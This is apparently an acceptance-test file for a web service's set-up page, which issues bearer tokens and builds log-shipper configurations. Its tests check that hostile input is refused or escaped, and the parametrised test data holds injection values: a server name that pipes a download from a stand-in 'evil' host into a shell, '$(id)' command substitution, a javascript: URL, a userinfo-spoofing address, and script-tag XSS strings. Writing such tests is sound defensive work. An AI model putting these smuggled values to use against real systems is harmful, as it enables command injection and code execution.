"""The page Set-up: a configuration with a token in it, what has arrived, and what is made of one line."""

import re
from collections.abc import Iterator
from html import unescape
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest

from dashboards.shippers import shippers
from service.settings import Settings
from tests.acceptance.service import Running, running
from tests.house.checkout import ROOT

NOW = "2026-10-06T12:30:00Z"
CALL = '{"time":"2026-10-05T10:15:02.114Z","msg":"Retired tool called","data":{"tool":"a","client":"c"}}'
NAMELESS = '{"time":"2026-10-05T10:15:03Z","msg":"Retired tool called","data":{"client":"c"}}'
SECRET = re.compile(r"lct_[A-Za-z0-9_-]{43}")


@pytest.fixture
def service(tmp_path: Path) -> Iterator[Running]:
    settings = Settings(database_url=f"sqlite:///{tmp_path / 'events.db'}")
    with running(settings, now=NOW) as served:
        yield served


def page(service: Running, **params: Any) -> str:
    answer = service.client.get("/setup", params=params, follow_redirects=True)
    assert answer.status_code == 200, answer.text
    return answer.text


def configuration(text: str) -> str:
    """What stands in the field to be copied."""
    (found,) = re.findall(r'<textarea id="text"[^>]*>(.*?)</textarea>', text, re.DOTALL)
    return unescape(found)


def make(service: Running, **more: str) -> httpx.Response:
    """Press the button, as a browser does."""
    given = {"shipper": "curl", "server": "maps", "address": service.url, **more}
    return service.client.post("/setup-token", data=given, headers={"Origin": service.url})


def told(text: str) -> tuple[str, str]:
    """The word and the sentence of what has arrived."""
    (word,) = re.findall(r'data-word="(\w+)"', text)
    (says,) = re.findall(r"data-says>(.*?)</span>", text)
    return word, says


def test_every_shipper_is_offered_and_leads_to_its_file(service: Running) -> None:
    """With the service's own address, the server's name, and `none` for a token, while nobody is asked for one."""
    listed = page(service)
    for key, shipper in shippers().items():
        assert f"shipper={key}&amp;" in listed
        text = configuration(page(service, shipper=key, server="maps"))
        assert "LASTCALL_" not in text
        assert "none" in text
        assert len(text.splitlines()) == len(shipper.text.splitlines())


def test_an_empty_installation_leads_to_set_up(service: Running) -> None:
    """From the page of names, and from the bar of every page."""
    assert service.client.get("/").text.count('href="/setup"') == 2


def test_what_arrived_before_is_no_first_line_and_a_reload_keeps_that(service: Running) -> None:
    """How much it was stands in the address."""
    service.client.post("/to/maps/ingest", content=CALL.encode())
    answer = service.client.get("/setup", params={"shipper": "curl", "server": "maps"})
    assert answer.status_code == 303
    address = answer.headers["location"]
    assert told(service.client.get(address).text) == ("waiting", "Waiting for the first line.")
    service.client.post("/to/maps/ingest", content=CALL.replace("02.114", "03.114").encode())

    assert told(service.client.get(address).text) == ("stored", "The first line is stored.")
    assert "Look again" in service.client.get(address).text


def test_a_rejected_first_line_is_told_with_what_would_make_it_right(service: Running) -> None:
    """And leads to where a line can be explained."""
    seen = {"shipper": "curl", "server": "maps", "seen": "0,0,0,0"}
    service.client.post("/to/maps/ingest", content=NAMELESS.encode())
    text = page(service, **seen)

    assert told(text)[0] == "rejected"
    assert "missing_tool" in text
    assert "names no tool" in text
    assert 'href="/explain"' in text


def test_looking_closes_nothing(service: Running) -> None:
    """The door stays open until somebody presses the button, which says what that does."""
    text = page(service, shipper="curl", server="maps")
    assert "closes the door" in text
    assert SECRET.findall(text) == []
    assert service.client.get("/api/v1/names").status_code == 200


def test_the_first_token_closes_the_door_and_lets_its_maker_in(service: Running) -> None:
    """One delivers, one is the person's own, whose browser is logged in at once."""
    answer = make(service)
    assert answer.status_code == 200
    assert answer.headers["cache-control"] == "no-store"
    own, deliver = dict.fromkeys(SECRET.findall(answer.text))
    assert f"Authorization: Bearer {deliver}" in configuration(answer.text)

    # this client has kept the cookie; a stranger has none
    assert service.client.get("/api/v1/names").status_code == 200
    with httpx.Client(base_url=service.url) as stranger:
        assert stranger.get("/api/v1/names").status_code == 401
        bearer = {"Authorization": f"Bearer {own}"}
        assert stranger.get("/api/v1/names", headers=bearer).status_code == 200
        assert stranger.post("/to/maps/ingest", content=CALL.encode()).status_code == 401
        given = {"Authorization": f"Bearer {deliver}"}
        assert (
            stranger.post("/to/maps/ingest", content=CALL.encode(), headers=given).status_code
            == 200
        )
        assert (
            stranger.post("/to/other/ingest", content=CALL.encode(), headers=given).status_code
            == 403
        )


def test_both_tokens_are_copied_before_the_page_leads_on(service: Running) -> None:
    """Onward shows neither, and still waits for what the fresh token brings; the bar says where one is."""
    text = make(service).text
    assert re.search(r'<a href="/setup[^"]*"[^>]* aria-current="page">Set-up</a>', text)
    assert "Log out" in text
    (onward,) = re.findall(r'href="([^"]+)">I have copied both</a>', text)
    service.client.post("/to/maps/ingest", content=CALL.encode())
    page = service.client.get(unescape(onward)).text

    assert SECRET.findall(page) == []
    assert told(page)[0] == "waiting"


def test_without_a_token_the_page_says_which_feed_a_line_came_from(service: Running) -> None:
    """It may be another shipper's: none of its lines can be told from this one's."""
    seen = {"shipper": "curl", "server": "maps", "seen": "0,0,0,0"}
    service.client.post("/to/maps/ingest?source=edge", content=CALL.encode())
    assert "It came from the feed edge." in page(service, **seen)
    more = CALL.replace("02.114", "03.114").encode()
    service.client.post("/to/maps/ingest?source=<b>c", content=more)

    assert "It came from one of the feeds &lt;b&gt;c, edge." in page(service, **seen)


def test_what_the_shipper_needs_beside_its_file_can_be_copied_too(service: Running) -> None:
    """The commands of the guide, each in a field with a button."""
    text = page(service, shipper="syslog-ng", server="maps")
    guide = (ROOT / "docs" / "guides" / "set-up.md").read_text(encoding="utf-8")
    for name in ("before", "after", "first"):
        (found,) = re.findall(rf'<textarea id="{name}"[^>]*>(.*?)</textarea>', text, re.DOTALL)
        assert f'data-copy="{name}"' in text
        assert f"```sh\n{unescape(found).strip()}\n```" in guide


@pytest.mark.parametrize("path", ["", "/", "/lc/"])
def test_an_address_may_end_with_a_slash(path: str, service: Running) -> None:
    """As browsers show it."""
    text = page(service, shipper="curl", server="maps", address=f"{service.url}{path}")

    assert f"{service.url}{path.rstrip('/')}/ingest?server=maps" in configuration(text)


@pytest.mark.parametrize(
    ("parameter", "value"), [("address", 'http://evil.example/"><b>'), ("server", "a b")]
)
def test_the_form_is_shown_again_with_what_was_typed(
    parameter: str, value: str, service: Running
) -> None:
    """And what is wrong stands at its field; nothing of it is filled in anywhere."""
    given = {"shipper": "curl", "server": "maps", "address": service.url, parameter: value}
    answer = service.client.get("/setup", params=given)
    assert answer.status_code == 422
    for name in ("server", "address"):
        (field,) = re.findall(rf'<input name="{name}"[^>]*?value="([^"]*)"[^>]*>', answer.text)
        assert unescape(field) == given[name]
    (wrong,) = re.findall(r'<input name="(\w+)"[^>]*aria-invalid="true"', answer.text)
    assert wrong == parameter
    assert '<option value="curl" selected>' in answer.text
    assert "<textarea" not in answer.text


def test_what_a_fresh_token_brings_is_its_first_line(service: Running) -> None:
    """Whatever other feeds of the server brought before."""
    service.client.post("/to/maps/ingest", content=CALL.encode())
    text = make(service).text
    assert told(text)[0] == "waiting"
    secret = SECRET.findall(configuration(text))[0]
    (again,) = re.findall(r'href="([^"]+)" target="_blank"', text)
    assert secret not in again
    sent = CALL.replace("02.114", "04.114").encode()
    service.client.post("/ingest", content=sent, headers={"Authorization": f"Bearer {secret}"})

    assert told(service.client.get(unescape(again)).text)[0] == "stored"


def test_a_second_token_is_of_another_name_and_makes_no_second_admin(service: Running) -> None:
    """A reload makes another, and each name is of one token for ever."""
    make(service)
    second = make(service)

    assert len(set(SECRET.findall(second.text))) == 1
    assert "maps-curl-2" in second.text
    names = {each.name for each in service.app.state.access.tokens()}
    assert names == {"admin", "maps-curl", "maps-curl-2"}


def test_who_only_reads_is_told_who_makes_a_token(service: Running) -> None:
    """The place of the token stays open, and the form is refused."""
    make(service)
    reader = service.app.state.access.add("reader", "read", actor="command").secret
    with httpx.Client(
        base_url=service.url, headers={"Authorization": f"Bearer {reader}"}, follow_redirects=True
    ) as client:
        text = client.get("/setup", params={"shipper": "curl", "server": "maps"}).text
        assert "Bearer LASTCALL_TOKEN" in configuration(text)
        assert "only an admin" in text
        assert client.post("/setup-token", data={"shipper": "curl"}).status_code == 403


@pytest.mark.parametrize(
    ("parameter", "value"),
    [
        ("server", "maps';curl evil|sh;'"),
        ("server", "a b"),
        ("address", "http://evil.example"),
        ("address", "http://127.0.0.1:8420/$(id)"),
        ("address", "javascript:alert(1)"),
        ("address", "http://127.0.0.1@evil.example"),
        ("address", "http://127.0.0.1:port"),
        ("shipper", "telegraf"),
        ("seen", "many"),
        ("unknown", "1"),
    ],
)
def test_what_could_mean_something_in_a_configuration_is_refused(
    parameter: str, value: str, service: Running
) -> None:
    """On the page and in its form; nothing is made, and no secret is shown."""
    given = {"shipper": "curl", "server": "maps", parameter: value}
    for answer in (
        service.client.get("/setup", params=given),
        service.client.post("/setup-token", data=given),
    ):
        assert answer.status_code == 422, (parameter, value)
        assert parameter in answer.text
        assert SECRET.findall(answer.text) == []
    assert service.app.state.access.tokens() == []


def test_a_form_of_another_site_makes_nothing(service: Running) -> None:
    """Wherever it says that it comes from."""
    for headers in ({"Sec-Fetch-Site": "cross-site"}, {"Origin": "https://evil.example"}):
        answer = service.client.post("/setup-token", data={"shipper": "curl"}, headers=headers)
        assert answer.status_code in {403, 422}
    assert service.app.state.access.tokens() == []


def test_a_secret_is_in_no_log(
    service: Running, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    """Nor in what the service prints."""
    secrets = set(SECRET.findall(make(service).text))
    assert len(secrets) == 2
    written = caplog.text + "".join(capfd.readouterr())

    assert [secret for secret in secrets if secret in written] == []


@pytest.mark.parametrize(
    ("line", "says"),
    [
        (CALL, "It counts: stale call"),
        (NAMELESS, "It cannot be used: missing tool"),
        ('{"msg":"Server started"}', "It is not ours"),
        ("<script>alert(1)</script>", "It is not ours"),
        ("\x00\ud800".encode("utf-8", "replace").decode(), "It is not ours"),
    ],
)
def test_a_pasted_line_is_explained_and_not_kept(line: str, says: str, service: Running) -> None:
    """What counts with its fields, what does not with the reason; any text is text."""
    answer = service.client.post("/explain", data={"line": line})
    assert answer.status_code == 200
    assert says in answer.text
    assert "<script>alert" not in answer.text
    assert answer.headers["cache-control"] == "no-store"
    assert service.rows("health") == []
